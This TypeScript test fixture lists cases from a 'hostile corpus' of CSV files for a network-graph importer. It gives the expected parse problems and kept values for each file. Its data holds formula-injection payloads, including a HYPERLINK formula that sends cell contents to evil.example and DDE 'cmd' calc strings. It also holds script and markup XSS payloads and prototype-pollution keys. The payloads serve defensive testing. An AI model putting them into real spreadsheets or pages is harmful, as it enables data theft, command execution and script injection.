import type { CorpusCase } from './case';

/**
 * The hostile corpus's files of CSV tables (Gephi and Kumu conventions) (src/test/fixtures/hostile/, listed in its README), and what
 * importing each must give.
 */
export const CSV_TABLES_CASES: CorpusCase[] = [
  {
    file: 'csv-bom-crlf.csv',
    format: 'csv',
    tries: 'a byte-order mark, CRLF line ends and a quoted cell over two lines',
    problems: [],
    kept: ['Alpha', 'Beta'],
  },
  {
    file: 'csv-crafted-ids.csv',
    format: 'csv',
    tries:
      'ids empty, of 10,000 characters, only punctuation, `__proto__`, `constructor` (twice), `hasOwnProperty`, `toString`',
    problems: ['line 9, entities[7].id: "constructor" appears twice; the second is left out'],
    kept: ['No id', 'Ten thousand x', 'Only punctuation', 'Proto', 'Constructor', 'Has own', 'To string'],
  },
  {
    file: 'csv-formula-cells.csv',
    format: 'csv',
    tries:
      'formula cells: `=HYPERLINK`, `+cmd`, `-2+3`, `@SUM`, a tab and a space before =, a full-width ＝, one already guarded (cells are trimmed; the quote mark a guarded cell carries goes)',
    problems: [],
    kept: [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '=1+1',
      '＝1+1',
      '=1+1',
      '=already guarded',
    ],
    verbatim: ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", '＝1+1'],
  },
  {
    file: 'csv-links-colliding-ids.csv',
    format: 'csv',
    tries: "a links table whose ids are its entities' ids, one twice; `__proto__` and `constructor` as ends",
    problems: ['line 4, links[2].id: "alpha" appears twice; the second is left out'],
    kept: ['alpha', 'beta', 'gamma', 'constructor', '__proto__'],
    links: 3,
  },
  {
    file: 'csv-proto-headers.csv',
    format: 'csv',
    tries: 'columns named `__proto__`, `constructor`, `prototype`, `hasOwnProperty`',
    problems: [],
    kept: ['Alpha', '__proto__'],
  },
  {
    file: 'csv-ragged-rows.csv',
    format: 'csv',
    tries: 'rows with more and fewer cells than the header',
    problems: [
      'line 2: has 5 cells, more than the 3 columns of the first line; the cells past them are passed over (the row is read as far as possible)',
    ],
    kept: ['Alpha', 'b', 'Gamma'],
  },
  {
    file: 'csv-script.csv',
    format: 'csv',
    tries: 'script and markup in every column; `javascript:` and `data:` in the sources cell',
    problems: [
      'line 3: kind "<script>alert(1)</script>" is not one of',
      'line 3: role "<img src=x onerror=alert(2)>" is not one of',
      'line 4, entities[2].country: is not an ISO 3166-1 alpha-2 country code (e.g. "RU", "CN", "HK"); the record is left out',
    ],
    kept: ['<script>alert(1)</script>Alpha', 'javascript:alert(4)'],
    verbatim: ['<img src=x onerror=alert(2)>', '<a href="javascript:alert(2)">x</a>'],
  },
  {
    file: 'csv-truncated.csv',
    format: 'csv',
    tries: 'a quote that never closes',
    problems: [
      'line 4: Quoted field unterminated: a quote opened on this line never closes, so lines 4 to 5 are read as one cell of this row',
    ],
    kept: ['Alpha', 'Beta', 'Gamma, and the quote never closes,HK\nd,Delta,RU'],
  },
  {
    file: 'csv-utf16be.csv',
    format: 'csv',
    tries: 'UTF-16 big-endian with a byte-order mark',
    problems: [],
    kept: ['Ōbayashi 大林組', 'Ростех'],
  },
  {
    file: 'csv-windows-1252.csv',
    format: 'csv',
    tries: 'Windows-1252 bytes',
    problems: ['line 2: is not UTF-8 text (byte 0xFC at line 2 is not UTF-8), so it was read as Windows-1252'],
    kept: ['Müller GmbH', 'Société Générale', 'Zürich Åland Øresund'],
  },
  {
    file: 'csv-wrong-values.csv',
    format: 'csv',
    tries:
      'a links table with a share of "lots" and 150, dates that are none, a list for a type, a period that ends before it starts',
    problems: [
      'line 2: share "lots" is not a percentage from 0 to 100; it is passed over',
      'line 3: share "150" is not a percentage from 0 to 100; it is passed over',
      'line 4: link type "[1,2]" is not one of',
      'line 2, links[0].period.from: must be a date written YYYY-MM-DD, YYYY-MM or YYYY; the record is left out',
      'line 2, links[0].period.to: must be a date written YYYY-MM-DD, YYYY-MM or YYYY; the record is left out',
      'line 2, links[0].period.to: is not a day of the calendar; the record is left out',
      'line 3, links[1]: "link-2" starts (2020) after it ends (2019); left out',
    ],
    kept: ['Alpha', 'Beta', 'Gamma', 'Delta'],
    links: 2,
  },
];
